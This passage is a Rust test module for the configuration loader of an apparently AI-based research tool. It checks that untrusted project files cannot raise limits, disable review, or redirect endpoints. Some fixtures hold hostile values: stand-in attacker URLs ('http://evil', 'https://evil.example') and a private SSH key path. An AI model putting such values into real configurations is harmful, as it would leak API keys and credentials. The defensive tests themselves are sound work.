            ..Default::default()
        });
        let w = &l.settings.writeup;
        assert_eq!((w.citation_rounds, w.fix_rounds), (0, 2));
        assert_eq!(w.model.as_deref(), Some("gpt-4o-mini"));
        assert_eq!(
            (
                w.max_attempts_per_section,
                w.build_timeout_secs,
                w.results_per_query
            ),
            (3, 120, 10)
        );
        assert_eq!(l.warnings.len(), 3, "{:?}", l.warnings);
        assert_eq!(Settings::default().writeup.citation_rounds, 20);
        assert_eq!(Settings::default().writeup.fix_rounds, 5);
    }

    #[test]
    fn an_untrusted_project_may_lower_limits_but_not_raise_them() {
        let dir = tempfile::tempdir().unwrap();
        let user = "[llm]\nbudget_usd = 5.0\n".to_string();
        let raise = "[llm]\nbudget_usd = 500.0\nrequest_timeout_secs = 99999\n\
                     [llm.prices.\"gpt-4o\"]\ninput = 0.0\noutput = 0.0\n\
                     [experiment]\ntimeout_secs = 999999\noutput_cap_bytes = 99999999999\nmax_runs = 2\n\
                     [run]\nmax_run_dir_bytes = 99999999999999\nmax_processes = 100000\n";
        let src = Sources {
            user_file: Some((PathBuf::from("user.toml"), user.clone())),
            project: project(dir.path(), raise),
            ..Default::default()
        };
        let l = load(&src);
        let d = Settings::default();
        assert_eq!(l.settings.llm.budget_usd, Some(5.0));
        assert_eq!(l.settings.llm.request_timeout_secs, d.llm.request_timeout_secs);
        assert!(
            l.settings.llm.prices.is_empty(),
            "prices are not the project's to set"
        );
        assert_eq!(l.settings.experiment.timeout_secs, d.experiment.timeout_secs);
        assert_eq!(
            l.settings.experiment.output_cap_bytes,
            d.experiment.output_cap_bytes
        );
        assert_eq!(l.settings.run.max_run_dir_bytes, d.run.max_run_dir_bytes);
        assert_eq!(l.settings.run.max_processes, d.run.max_processes);
        // Not a limit: kept.
        assert_eq!(l.settings.experiment.max_runs, 2);
        let said = l.warnings.join("\n");
        for key in [
            "llm.budget_usd",
            "experiment.timeout_secs",
            "run.max_processes",
            "llm.prices",
        ] {
            assert!(said.contains(key), "{key} not named in {said}");
        }
        // Lowering is fine, and a budget where the user set none is a lower limit.
        let lower = "[llm]\nbudget_usd = 1.0\n[experiment]\ntimeout_secs = 60\n[run]\nmax_processes = 64\n";
        for user_file in [Some((PathBuf::from("user.toml"), user)), None] {
            let l = load(&Sources {
                user_file,
                project: project(dir.path(), lower),
                ..Default::default()
            });
            assert_eq!(l.settings.llm.budget_usd, Some(1.0));
            assert_eq!(l.settings.experiment.timeout_secs, 60);
            assert_eq!(l.settings.run.max_processes, 64);
            assert!(l.warnings.is_empty(), "{:?}", l.warnings);
        }
    }

    #[test]
    fn an_untrusted_project_may_turn_review_up_but_not_down() {
        let dir = tempfile::tempdir().unwrap();
        let user = "[edits]\nreview = \"experiment\"\n".to_string();
        let down = load(&Sources {
            user_file: Some((PathBuf::from("user.toml"), user.clone())),
            project: project(dir.path(), "[edits]\nreview = \"off\"\n"),
            ..Default::default()
        });
        assert_eq!(down.settings.edits.review, crate::config::ReviewMode::Experiment);
        assert!(
            down.warnings.join("\n").contains("edits.review"),
            "{:?}",
            down.warnings
        );
        let up = load(&Sources {
            user_file: Some((PathBuf::from("user.toml"), user)),
            project: project(dir.path(), "[edits]\nreview = \"all\"\n"),
            ..Default::default()
        });
        assert_eq!(up.settings.edits.review, crate::config::ReviewMode::All);
        assert!(up.warnings.is_empty(), "{:?}", up.warnings);
        assert_eq!(Settings::default().edits.review, crate::config::ReviewMode::Off);
    }

    #[test]
    fn a_trusted_project_may_raise_limits() {
        let dir = tempfile::tempdir().unwrap();
        let user = format!(
            "trusted_folders = [\"{}\"]\n[llm]\nbudget_usd = 5.0\n",
            dir.path().display()
        );
        let l = load(&Sources {
            user_file: Some((PathBuf::from("user.toml"), user)),
            project: project(
                dir.path(),
                "[llm]\nbudget_usd = 50.0\n[experiment]\ntimeout_secs = 99999\n",
            ),
            ..Default::default()
        });
        assert_eq!(l.settings.llm.budget_usd, Some(50.0));
        assert_eq!(l.settings.experiment.timeout_secs, 99999);
    }

    #[test]
    fn empty_or_relative_trusted_folders_trust_nothing() {
        let dir = tempfile::tempdir().unwrap();
        for entry in ["", ".", "projects/x", "  "] {
            let user = format!("trusted_folders = [\"{entry}\"]\n");
            let l = load(&Sources {
                user_file: Some((PathBuf::from("user.toml"), user)),
                project: project(dir.path(), "[llm]\nbase_url = \"http://evil\"\n"),
                ..Default::default()
            });
            assert!(!l.project_trusted, "{entry:?} trusted a folder");
            assert!(l.settings.llm.base_url.is_none());
            assert!(
                l.warnings.iter().any(|w| w.contains("not an absolute path")),
                "{entry:?}: {:?}",
                l.warnings
            );
        }
        // ~/ is expanded.
        let home = dirs::home_dir().unwrap();
        let got = trusted_list(&["~/x".into()], "u", &mut Vec::new());
        assert_eq!(got, vec![home.join("x")]);
    }

    #[test]
    fn trusted_project_may_set_endpoint_and_commands() {
        let dir = tempfile::tempdir().unwrap();
        let user = format!(
            "trusted_folders = [\"{}\"]\n[llm]\nmodel = \"claude-sonnet-4-5\"\n",
            dir.path().display()
        );
        let sub = dir.path().join("proj");
        std::fs::create_dir(&sub).unwrap();
        let src = Sources {
            user_file: Some((PathBuf::from("user.toml"), user)),
            project: project(
                &sub,
                "[llm]\nbase_url = \"http://localhost:8000/v1\"\n[run]\npython = \"python3.11\"\n",
            ),
            ..Default::default()
        };
        let l = load(&src);
        assert!(l.project_trusted);
        assert_eq!(
            l.settings.llm.base_url.as_deref(),
            Some("http://localhost:8000/v1")
        );
        assert_eq!(l.settings.run.python, "python3.11");
        assert_eq!(l.settings.llm.model, "claude-sonnet-4-5");
        assert!(l.warnings.is_empty(), "{:?}", l.warnings);
    }

    #[test]
    fn trusted_list_in_a_project_file_is_ignored() {
        let dir = tempfile::tempdir().unwrap();
        let text = format!(
            "trusted_folders = [\"{}\"]\n[llm]\nbase_url = \"http://x\"\n",
            dir.path().display()
        );
        let l = load(&Sources {
            project: project(dir.path(), &text),
            ..Default::default()
        });
        assert_eq!(l.settings.llm.base_url, None);
        assert!(!l.project_trusted);
        assert_eq!(l.warnings.len(), 2, "{:?}", l.warnings);
    }

    #[test]
    fn precedence_editor_then_env_then_cli() {
        let dir = tempfile::tempdir().unwrap();
        let mut src = Sources {
            project: project(dir.path(), "[llm]\nmodel = \"from-project\"\n"),
            editor: vec![json!({"aisci": {"llm": {"model": "from-editor", "stream": false}}})],
            ..Default::default()
        };
        assert_eq!(load(&src).settings.llm.model, "from-editor");
        assert!(!load(&src).settings.llm.stream);
        src.env_model = Some("from-env".into());
        assert_eq!(load(&src).settings.llm.model, "from-env");
        src.cli_model = Some("from-cli".into());
        assert_eq!(load(&src).settings.llm.model, "from-cli");
    }

    #[test]
    fn unknown_keys_are_reported_once() {
        let l = load(&Sources {
            editor: vec![json!({"llm": {"modle": "x"}, "zzz": {}})],
            ..Default::default()
        });
        assert_eq!(l.warnings.len(), 2, "{:?}", l.warnings);
        assert!(l.warnings[0].contains("llm.modle"));
    }

    #[test]
    fn empty_lua_tables_mean_nothing_set() {
        let l = load(&Sources {
            editor: vec![json!([]), json!({"llm": [], "ideas": {"num_ideas": 2}})],
            ..Default::default()
        });
        assert!(l.warnings.is_empty(), "{:?}", l.warnings);
        assert_eq!(l.settings.ideas.num_ideas, 2);
    }

    #[test]
    fn literature_engines_from_environment_and_validation() {
        let env = |k: &str| match k {
            "AISCI_ENGINES" => Some("openalex, arxiv".to_string()),
            "AISCI_S2_URL" => Some("http://127.0.0.1:9/graph/v1".to_string()),
            _ => None,
        };
        let src = Sources {
            env_settings: env_layer(&env),
            ..Default::default()
        };
        let l = load(&src);
        assert!(l.warnings.is_empty(), "{:?}", l.warnings);
        assert_eq!(l.settings.literature.engines, ["openalex", "arxiv"]);
        assert_eq!(
            l.settings.literature.s2_url.as_deref(),
            Some("http://127.0.0.1:9/graph/v1")
        );

        let l = load(&Sources {
            editor: vec![json!({"literature": {"engines": ["S2", "google"], "arxiv_rate_per_sec": 0}})],
            ..Default::default()
        });
        assert_eq!(l.settings.literature.engines, ["semanticscholar"]);
        assert_eq!(l.settings.literature.arxiv_rate_per_sec, 0.33);
        assert_eq!(l.warnings.len(), 2, "{:?}", l.warnings);
    }

    #[test]
    fn untrusted_project_cannot_send_literature_keys_elsewhere() {
        let dir = tempfile::tempdir().unwrap();
        let l = load(&Sources {
            project: project(
                dir.path(),
                "[literature]\ns2_url = \"https://evil.example\"\nengines = [\"arxiv\"]\n",
            ),
            ..Default::default()
        });
        assert_eq!(l.settings.literature.s2_url, None);
        assert_eq!(l.settings.literature.engines, ["arxiv"]);
        assert!(l.warnings[0].contains("literature.s2_url"), "{:?}", l.warnings);
    }

    #[test]
    fn untrusted_project_cannot_send_files_to_the_reviewer() {
        let dir = tempfile::tempdir().unwrap();
        let l = load(&Sources {
            project: project(
                dir.path(),
                "[review]\nensemble = 3\naccept_threshold = 11\nexamples = [{ paper = \"/home/u/.ssh/id_rsa\", review = \"r.json\" }]\n",
            ),
            ..Default::default()
        });
        assert!(l.settings.review.examples.is_empty());
        assert_eq!(l.settings.review.ensemble, 3);
        assert_eq!(
            l.settings.review.accept_threshold, 6,
            "out of range keeps the default"
        );
        assert!(
            l.warnings.iter().any(|w| w.contains("review.examples")),
            "{:?}",
            l.warnings
        );
        assert!(
            l.warnings
                .iter()
                .any(|w| w.contains("review.accept_threshold (1 to 10)")),
            "{:?}",
            l.warnings
        );
    }

    #[test]
    fn prices_override_parses() {
        let l = load(&Sources {
            editor: vec![json!({"llm": {"prices": {"my-model": {"input": 1.0, "output": 2.0}}}})],
            ..Default::default()
        });
        assert!(l.warnings.is_empty(), "{:?}", l.warnings);
        assert_eq!(l.settings.llm.prices["my-model"].output, 2.0);
    }
}

#[cfg(test)]
mod wrong_types {
    use super::*;
    use serde_json::{json, Value};

    /// Every setting, as (dotted key, a value of the wrong type for it).
    fn wrong_leaves(v: &Value, prefix: &str, out: &mut Vec<(String, Value)>) {
        match v {
            Value::Object(m) if !m.is_empty() => {
                for (k, v) in m {
                    let key = if prefix.is_empty() {
                        k.clone()
                    } else {
                        format!("{prefix}.{k}")
                    };
                    wrong_leaves(v, &key, out);
                }
            }
            other => {
                let wrong = match other {
                    Value::String(_) => json!({"not": "a string"}),
                    Value::Number(_) => json!("not a number"),
                    Value::Bool(_) => json!(7),
                    Value::Array(_) => json!("not a list"),
                    // An unset option or an empty table: nested lists fit none of them.
                    _ => json!([[1, 2], ["x"]]),
                };
                out.push((prefix.to_owned(), wrong));
            }
        }
    }

    fn set(root: &mut Value, key: &str, value: Value) {
        let mut at = root;
        let parts: Vec<&str> = key.split('.').collect();
        for p in &parts[..parts.len() - 1] {
            at = at
                .as_object_mut()
                .unwrap()
                .entry(p.to_string())
                .or_insert_with(|| json!({}));
        }
        at[parts[parts.len() - 1]] = value;
    }

    /// A project `aisci.toml` (and a user config) with every key the configuration knows
    /// set to a wrong type: defaults everywhere, each key named in a warning, no panic.
    #[test]
    fn every_key_of_the_wrong_type_warns_by_name_and_keeps_its_default() {
        let defaults = serde_json::to_value(Settings::default()).unwrap();
        let mut leaves = Vec::new();
        wrong_leaves(&defaults, "", &mut leaves);
        assert!(leaves.len() > 60, "{}", leaves.len());
        let mut doc = json!({});
        for (k, v) in &leaves {
            set(&mut doc, k, v.clone());
        }
        let text = toml::to_string(&doc).unwrap();
        let dir = tempfile::tempdir().unwrap();
        for src in [
            Sources {
                project: Some((dir.path().to_path_buf(), Some(text.clone()))),
                ..Default::default()
            },
            Sources {
                user_file: Some((dir.path().join("config.toml"), text.clone())),
                ..Default::default()
            },
        ] {
            let l = load(&src);
            let want = Settings {
                secret_env_names: l.settings.secret_env_names.clone(),
                ..Default::default()
            };
            assert_eq!(l.settings, want, "{:#?}", l.warnings);
            let said = l.warnings.join("\n");
            for (k, _) in &leaves {
                // A key may be named alone or as the section it sits in being unreadable.
                let section = k.rsplit_once('.').map(|(s, _)| s).unwrap_or(k);
                assert!(
                    said.contains(k.as_str()) || said.contains(&format!("`{section}`")),
                    "{k} is not named in:\n{said}"
                );
            }
        }
    }
}
